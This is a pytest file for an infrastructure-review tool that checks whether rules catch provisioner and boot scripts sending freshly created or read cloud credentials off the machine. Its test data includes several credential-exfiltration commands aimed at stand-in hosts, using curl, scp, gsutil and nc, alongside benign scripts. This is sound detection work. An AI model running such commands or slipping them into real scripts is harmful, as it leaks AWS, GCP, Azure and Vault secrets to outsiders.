"""Scripts that create or read a credential and send it over the network, in provisioners and boot scripts."""

from __future__ import annotations

import pytest

from tfreview.pipeline.rules.bootscript import dangers
from tfreview.pipeline.rules.minted import sends_minted
from tfreview.pipeline.rules.provisioners import danger

LEAVING = [
    "aws iam create-access-key --user-name ci --output json | curl -s -X POST --data-binary @- https://hooks.x.example/k",
    "gcloud iam service-accounts keys create /tmp/k.json --iam-account=d@p.iam.gserviceaccount.com\n"
    "gsutil cp /tmp/k.json gs://ext-backup-7731/k.json",
    "TOKEN=$(vault token create -policy=admin -field=token)\ncurl -d \"t=$TOKEN\" https://collector.example.net/",
    "az ad sp credential reset --id 1234 > creds.json\nscp creds.json ops@203.0.113.9:/tmp/",
    "aws secretsmanager get-secret-value --secret-id prod/db | nc 198.51.100.4 9000",
]
STAYING = [
    "curl -sSO https://dl.google.com/cloudagents/add-google-cloud-ops-agent-repo.sh\nbash add-repo.sh --also-install",
    "gcloud iam service-accounts keys create /etc/app/key.json --iam-account=app@p.iam.gserviceaccount.com\n"
    "systemctl restart app",
    "aws secretsmanager get-secret-value --secret-id prod/db > /etc/app/db.json\n"
    "aws s3 cp /var/log/app.log s3://acme-logs/app.log",
    "kubectl -n web rollout status deployment/web --timeout=300s",
]


@pytest.mark.parametrize("script", LEAVING)
def test_a_credential_sent_away_is_found_in_provisioners_and_boot_scripts(script: str) -> None:
    assert sends_minted(script)
    assert danger(script) is not None
    assert any("credential" in d for d in dangers(script))


@pytest.mark.parametrize("script", STAYING)
def test_credentials_kept_on_the_machine_and_plain_downloads_stay_quiet(script: str) -> None:
    assert not sends_minted(script)
    assert danger(script) is None
    assert not dangers(script)
